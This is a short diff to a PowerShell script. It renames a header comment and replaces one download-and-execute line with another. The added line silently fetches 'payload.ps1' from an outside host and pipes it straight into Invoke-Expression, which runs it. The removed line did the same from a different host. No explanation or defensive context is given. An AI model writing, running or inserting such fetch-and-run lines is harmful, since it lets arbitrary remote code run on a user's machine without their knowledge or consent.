@@ -1,3 +1,3 @@
-# init 5633 v0
+# setup 2899 v0
 $ProgressPreference = 'SilentlyContinue'
-iwr -UseBasicParsing http://cdn-update.example/a.ps1 | iex
+iwr -UseBasicParsing http://static.metrics-node.example/payload.ps1 | iex
